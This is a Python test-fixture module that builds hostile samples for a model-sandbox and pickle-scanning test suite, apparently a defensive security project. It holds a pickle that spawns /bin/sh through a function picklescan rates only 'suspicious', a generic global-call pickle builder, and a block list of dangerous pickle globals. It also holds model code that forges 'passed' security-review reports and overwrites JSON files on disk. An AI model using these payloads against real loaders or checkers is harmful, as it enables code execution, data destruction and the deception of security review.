"""Hostile learnware pieces for the sandbox and pickle-scan tests and benchmarks.

Importable without pytest (``benchmarks.hostile`` reuses them). Nothing here is
ever unpickled or run on the host: the payloads are only written, as bytes.
"""

from __future__ import annotations

import io
import multiprocessing.util
import os
import pickle
import zipfile
from pathlib import Path
from typing import Any

__all__ = [
    "HOSTILE_GLOBALS",
    "REPORT_FORGING_MODEL",
    "global_call_pickle",
    "replace_in_package",
    "spawnv_passfds_pickle",
]


class _SpawnShell:
    """Pickles to ``multiprocessing.util.spawnv_passfds('/bin/sh', ...)``, which
    picklescan rates only "suspicious"."""

    def __reduce__(self) -> tuple[Any, ...]:
        argv = ["/bin/sh", "-c", "touch /tmp/pwned"]
        return (multiprocessing.util.spawnv_passfds, ("/bin/sh", argv, ()))


def spawnv_passfds_pickle(protocol: int = 4) -> bytes:
    """A pickle running ``/bin/sh`` through ``multiprocessing.util.spawnv_passfds``."""
    return pickle.dumps(_SpawnShell(), protocol=protocol)


def global_call_pickle(module: str, name: str, arg: str = "x") -> bytes:
    """A protocol-0 pickle calling ``module.name(arg)`` (any name, even dotted)."""
    return f"c{module}\n{name}\n(V{arg}\ntR.".encode()


#: Globals a model pickle must never be allowed to name, as (module, name).
HOSTILE_GLOBALS: tuple[tuple[str, str], ...] = (
    ("multiprocessing.util", "spawnv_passfds"),
    (os.system.__module__, "system"),
    ("subprocess", "Popen"),
    ("builtins", "eval"),
    ("builtins", "exec"),
    ("builtins", "getattr"),
    ("__builtin__", "__import__"),
    ("importlib", "import_module"),
    ("pickle", "loads"),
    ("marshal", "loads"),
    ("types", "FunctionType"),
    ("numpy", "load"),
    ("numpy", "fromfile"),
    ("numpy.testing", "assert_equal"),
    ("numpy.f2py", "compile"),
    ("torch", "load"),
    ("torch.storage", "_load_from_bytes"),
    ("torch.fx.graph_module", "reduce_graph_module"),
    ("torch.utils.cpp_extension", "load_inline"),
    ("pandas", "read_pickle"),
    ("pandas", "HDFStore"),
    ("sklearn.utils._testing", "TempMemmap"),
    ("sklearn.base", "os.system"),
    ("__main__", "os.system"),
    ("__main__", "main"),
    ("learnware_core.runtime.sandbox", "run_sandboxed"),
    ("shutil", "rmtree"),
    ("socket", "create_connection"),
    ("runpy", "run_path"),
    ("operator", "attrgetter"),
)

#: ``__init__.py`` of a model that tries to forge the dock's check report: it prints
#: fake steps, and rewrites every result file it can find, from inside the sandbox.
REPORT_FORGING_MODEL = """
import json, os, sys
from pathlib import Path

FAKE = {"name": "dock security review", "status": "passed",
        "message": "Reviewed and approved by the dock. " + "A" * 5000,
        "duration_s": 0.0}


def _forge():
    print(json.dumps({"steps": [FAKE]}))
    sys.stderr.write("sandbox: " + json.dumps(FAKE) + "\\n")
    for root in {os.getcwd(), os.environ.get("HOME", "."), "/tmp"}:
        for folder, _dirs, files in os.walk(root):
            for name in files:
                if name.endswith(".json"):
                    try:
                        Path(folder, name).write_text(json.dumps({"steps": [FAKE]}))
                    except OSError:
                        pass
    for fd in range(3, 64):
        try:
            os.write(fd, (json.dumps({"steps": [FAKE]}) + "\\n").encode())
        except OSError:
            pass


class Model:
    input_shape = (4,)
    output_shape = (1,)

    def __init__(self, **kwargs):
        _forge()

    def predict(self, X):
        _forge()
        import numpy as np
        return np.zeros(len(X))
"""


def replace_in_package(package: Path | bytes, files: dict[str, bytes]) -> bytes:
    """The zip ``package`` with ``files`` replaced or added."""
    source = io.BytesIO(package) if isinstance(package, bytes) else package
    out = io.BytesIO()
    with (
        zipfile.ZipFile(source) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for item in src.infolist():
            if item.filename not in files:
                dst.writestr(item, src.read(item))
        for name, content in files.items():
            dst.writestr(name, content)
    return out.getvalue()
